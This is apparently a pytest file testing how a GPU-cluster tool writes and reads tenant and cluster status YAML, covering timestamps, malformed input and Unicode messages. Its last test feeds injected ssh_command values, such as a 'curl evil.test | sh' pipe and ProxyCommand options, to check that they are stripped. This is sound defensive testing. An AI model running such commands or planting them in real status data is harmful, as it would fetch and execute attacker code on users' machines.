"""A status is read back as it was written, by our reader and by any other; what isn't one is refused."""

from __future__ import annotations

from typing import Any, get_args

import msgspec
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from tests.support import live
from tests.support.instances import RUNS, look

from allotment.manifests.yaml_text import Malformed
from allotment.observed.conditions import seconds_between
from allotment.observed.status import (
    TIME_FIELDS,
    ClusterStatus,
    ColdStart,
    Condition,
    ImplausibleStatus,
    Instance,
    Preparation,
    Snapshot,
    Stock,
    Storage,
    TenantStatus,
    Transition,
    dump_status,
    parse_cluster_status,
    parse_tenant_status,
)
from allotment.observed.tenants import TenantObjects, derive_tenant_status


def test_a_tenants_status_is_read_back() -> None:
    status = look(*RUNS, live.claim(), live.job(condition="Complete"), live.application(), live.route())
    data = dump_status(status)
    assert parse_tenant_status(data) == status
    document = yaml.safe_load(data)
    assert (document["kind"], document["metadata"]) == ("TenantStatus", {"name": "solo-ada"})
    assert document["status"]["instances"][0]["state"] == "Running"


@given(st.text(), st.integers(0, 10**9))
def test_a_clusters_status_is_read_back(text: str, number: int) -> None:
    cold = (ColdStart("b", text, "2026-11-21T09:00:00Z", number % 99),)
    stock = Stock(name="a", gpu_spec="b", count=number, held_units=0, free=0, ready=0, tenant="", node_pool=text)
    status = ClusterStatus("eu-1", "2026-11-21T10:00:00Z", (stock,), message=text, cold_starts=cold)
    assert parse_cluster_status(dump_status(status)) == status


def test_a_clusters_status_of_before_there_were_cold_starts_is_read() -> None:
    data = dump_status(ClusterStatus("eu-1", "2026-11-21T10:00:00Z", (Stock("a", "b", 1, 0, 1, 1),)))
    assert b"cold" not in data
    assert b"nodePool" not in data
    assert parse_cluster_status(data).cold_starts == ()


@pytest.mark.parametrize("seconds", [-1, 10**9])
def test_a_start_that_nobody_saw_is_refused(seconds: int) -> None:
    cold = (ColdStart("b", "a/b", "", seconds),)
    with pytest.raises(Malformed):
        parse_cluster_status(dump_status(ClusterStatus("eu-1", "2026-11-21T10:00:00Z", cold_starts=cold)))


def parts(kind: type[msgspec.Struct]) -> set[type[msgspec.Struct]]:
    """Return a kind of status and all kinds of its parts."""
    struct_types = {kind}
    for field in msgspec.structs.fields(kind):
        for inner in (field.type, *get_args(field.type)):
            if isinstance(inner, type) and issubclass(inner, msgspec.Struct):
                struct_types |= parts(inner)
    return struct_types


def test_every_field_that_is_called_a_time_is_checked() -> None:
    names = {
        field.name
        for root in (TenantStatus, ClusterStatus)
        for kind in parts(root)
        for field in msgspec.structs.fields(kind)
    }
    assert {name for name in names if name.endswith(("time", "since", "_at"))} == TIME_FIELDS


@pytest.mark.parametrize("time", ["2026-11-21T10:00:00", "2026-11-21", "tomorrow", "2026-02-30T10:00:00Z", "9" * 5000])
@pytest.mark.parametrize(
    "part",
    [
        {"instances": (Instance("webui", "b", "Running", "", since="T"),)},
        {"instances": (Instance("webui", "b", "Running", "", start_time="T"),)},
        {
            "storages": (
                Storage("models", "b", "Ready", "", prepare=Preparation("u", 1, "h", "Failed", start_time="T")),
            )
        },
        {"storages": (Storage("models", "b", "Ready", "", prepare=Preparation("u", 1, "h", "Failed", "", "T")),)},
        {"snapshots": (Snapshot("daily", "b", "Ready", "", creation_time="T"),)},
        {"snapshots": (Snapshot("daily", "b", "Ready", "", conditions=(Condition("Ready", "True", "", "", "T"),)),)},
        {"transitions": (Transition("GPUInstance", "webui", "", "Running", "", "T"),)},
    ],
)
def test_a_tenants_time_without_a_zone_makes_its_status_unreadable(part: dict[str, Any], time: str) -> None:
    data = dump_status(TenantStatus("solo-ada", "eu-1", **part)).replace(b": T\n", f': "{time}"\n'.encode())
    with pytest.raises(ImplausibleStatus, match="isn't RFC 3339 with a time zone"):
        parse_tenant_status(data)


@pytest.mark.parametrize(
    "status",
    [
        ClusterStatus("eu-1", "2026-11-21T10:00:00"),
        ClusterStatus("eu-1", "2026-11-21T10:00:00Z", silent_since="2026-11-21T10:00:00"),
        ClusterStatus("eu-1", "2026-11-21T10:00:00Z", cold_starts=(ColdStart("b", "a/b", "2026-11-21T10:00:00", 1),)),
    ],
)
def test_a_clusters_time_without_a_zone_makes_its_status_unreadable(status: ClusterStatus) -> None:
    words = "it gives a time as '2026-11-21T10:00:00', which isn't RFC 3339 with a time zone"
    with pytest.raises(ImplausibleStatus, match=words):
        parse_cluster_status(dump_status(status))


@pytest.mark.parametrize(
    "time", ["1971-01-01T00:00:00+14:00", "9998-12-31T23:59:59-12:00", "2026-11-21T10:00:00.5+01:00"]
)
def test_seconds_lie_between_any_two_times(time: str) -> None:
    assert parse_cluster_status(dump_status(ClusterStatus("eu-1", time))).observed_at == time
    assert seconds_between(time, time) == 0
    assert abs(seconds_between(time, "2026-11-21T10:00:00Z")) < 10**12


@pytest.mark.parametrize("text", [r"\ud800", r"\\ud800", "\\", "a\\\ud7ff", "\U0001f600"])
def test_a_message_with_backslashes_is_read_back(text: str) -> None:
    """A tenant's program chooses the messages of its pods."""
    status = TenantStatus("kite", "eu-1", storages=(Storage("models", "b", "Failed", "", message=text),))
    assert parse_tenant_status(dump_status(status)) == status


def test_half_of_a_character_makes_a_status_unreadable() -> None:
    status = TenantStatus("kite", "eu-1", storages=(Storage("models", "b", "Failed", "", message="\ud800"),))
    with pytest.raises(Malformed, match="no encoding"):
        parse_tenant_status(dump_status(status))


@pytest.mark.parametrize("time", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "1970-01-01T00:00:00Z"])
def test_a_year_that_not_every_time_zone_can_represent_makes_a_status_unreadable(time: str) -> None:
    with pytest.raises(ImplausibleStatus, match="isn't RFC 3339"):
        parse_cluster_status(dump_status(ClusterStatus("eu-1", time)))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xff\n",
        b"a: 1\n",
        b"apiVersion: allotment.dev/v1alpha1\nkind: TenantStatus\n",
        b"apiVersion: allotment.dev/v1alpha1\nkind: TenantStatus\nmetadata:\n  name: x\nstatus:\n  cluster: 5\n",
        b"apiVersion: allotment.dev/v1alpha1\nkind: ClusterStatus\nmetadata:\n  name: x\nstatus:\n  cluster: a\n",
        dump_status(TenantStatus("x", "a", storages=2 * (Storage("models", "b", "Ready", ""),))),
    ],
)
def test_parse_tenant_status_refuses_an_invalid_status(data: bytes) -> None:
    with pytest.raises(Malformed):
        parse_tenant_status(data)


def test_a_tenant_whose_instances_stay_on_drained_nodes_is_said_to_be_protected() -> None:
    def budget(name: str = "instances", **more: Any) -> dict[str, Any]:
        return {"kind": "PodDisruptionBudget", "metadata": live.metadata(name, f"b-{name}", {}, **more)}

    def disruption(*objects: dict[str, Any]) -> str:
        return derive_tenant_status(
            live.TENANT, "eu-1", TenantObjects.from_objects(live.seen(*objects)), previous=None, now=live.AT.format(9)
        ).disruption

    assert disruption(budget()) == "Protected"
    assert disruption() == disruption(budget("copies--webui")) == ""
    assert disruption(budget(deletionTimestamp=live.AT.format(5))) == ""


@pytest.mark.parametrize(
    ("command", "is_shown"),
    [
        ("ssh web--a@ssh.gpu.test", True),
        ("ssh -p 2222 web--a@ssh.gpu.test", True),
        ("ssh web--a@ssh.gpu.test; curl evil.test | sh", False),
        ("ssh web--a@ssh.gpu.test\n", False),
        ("ssh -oProxyCommand=evil web--a@ssh.gpu.test", False),
        ("ssh web--b@ssh.gpu.test", False),
        ("ssh web--a@-oProxyCommand=evil", False),
        ("curl evil.test", False),
    ],
)
def test_only_a_login_to_the_instance_is_an_ssh_command(command: str, is_shown: bool) -> None:
    """People copy the command of a status to their shells, and anybody may have taken over a cluster."""
    status = TenantStatus(
        "a", "eu-1", instances=(Instance("web", "", "Running", "ProbesAnswered", "", ssh_command=command),)
    )
    (instance,) = parse_tenant_status(dump_status(status)).instances
    assert instance.ssh_command == (command if is_shown else "")
